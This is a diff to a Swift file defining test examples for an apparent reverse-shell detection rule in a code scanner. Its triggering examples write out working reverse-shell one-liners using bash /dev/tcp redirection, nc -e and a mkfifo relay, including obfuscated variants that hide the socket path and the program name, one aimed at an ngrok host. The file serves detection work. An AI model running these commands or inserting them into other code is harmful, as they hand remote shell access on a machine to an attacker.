@@ -4,6 +4,9 @@ extension ReverseShellRule {
   static let triggering: [Example] = [
     Example("_ka() {\n  local a=\"6.tcp.eu\" b=\"ngrok.io\" d=\"/dev\" t=\"tcp\"\n  ( setsid bash -c \"exec ↓bash -i >& ${d}/${t}/${a}.${b}/17337 0>&1\" & )\n}\n", language: .shell, note: "socket path hidden in variables: the shape is the reverse shell"),
     Example("#!/bin/bash\n↓bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", language: .shell),
+    Example(
+      "s=\"/d\"\"ev/t\"\"cp\" h=\"198.51\"\nexec 7<>\"$s/$h.100.23/4443\"\n↓\"$(command -v ba\"\"sh)\" -i <&7 >&7 2>&7\n",
+      language: .shell, note: "an interactive shell reading and writing one descriptor opened for both; the program is looked up"),
     Example("↓rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n", language: .shell),
     Example("↓nc -e /bin/sh 203.0.113.7 4444\n", language: .shell),
     Example(
@@ -21,6 +24,7 @@ extension ReverseShellRule {
   static let nonTriggering: [Example] = [
     Example("bash -i > session.log 2>&1\nsh -i 2>&1 | tee debug.log\n", language: .shell, note: "an interactive shell logging its output reads nothing back"),
     Example("awk '{print $1}' access.log | sort | uniq -c\n", language: .shell, note: "awk without a socket"),
+    Example("exec 3<input.txt\nwhile read -r line <&3; do echo \"$line\" >&4; done\n", language: .shell, note: "reading one descriptor and writing another is not a relay"),
     Example("php -r 'echo json_encode([\"ok\" => true]);'\n", language: .shell, note: "php one-liner without a socket"),
     Example("telnet mail.example.org 25\n", language: .shell, note: "a telnet session, no shell in the pipeline"),
     Example("print(\"Check the port with: nc -zv host 443\")\n", language: .python, note: "a probe command in a string"),
